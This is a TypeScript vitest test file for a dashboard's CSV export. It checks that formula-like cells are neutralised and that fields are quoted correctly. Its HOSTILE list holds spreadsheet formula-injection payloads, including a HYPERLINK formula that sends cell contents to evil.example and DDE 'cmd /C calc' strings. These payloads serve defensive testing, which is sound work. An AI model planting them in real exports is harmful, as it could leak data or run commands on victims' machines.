import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

/** A strict RFC 4180 reader, to check what a spreadsheet would see in each cell. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else if (c === '\r' || c === '\n') throw new Error(`bare line break at ${i}`);
    else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '=1+1\r\n=2+2',
];

describe('CSV writer (dashboard downloads)', () => {
  it('neutralises every cell a spreadsheet would run as a formula (OWASP: = + - @ tab CR)', () => {
    const text = toCsv(
      ['单位', ...HOSTILE],
      HOSTILE.map((name) => [name, 1]),
    );
    const rows = parse(text);
    expect(rows).toHaveLength(HOSTILE.length + 1);
    for (const r of rows) {
      for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
    // The text itself survives, behind the apostrophe.
    expect(rows[1]?.[0]).toBe(`'${HOSTILE[0]}`);
    expect(rows[0]?.slice(1)).toEqual(HOSTILE.map((h) => `'${h}`));
  });

  it('quotes commas, quotes, CR and LF; a CR inside a cell does not break the row', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('line\rbreak')).toBe('"line\rbreak"');
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"');
    expect(parse(toCsv(['a', 'b'], [['x\ry', 'z']]))).toEqual([
      ['a', 'b'],
      ['x\ry', 'z'],
    ]);
  });

  it('leaves plain text and numbers alone (a negative number is data, not a formula)', () => {
    expect(csvCell('城关镇')).toBe('城关镇');
    expect(csvCell(-2.5)).toBe('-2.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(toCsv(['单位', '得分'], [['一号镇', 95.5]])).toBe('单位,得分\r\n一号镇,95.5');
  });
});
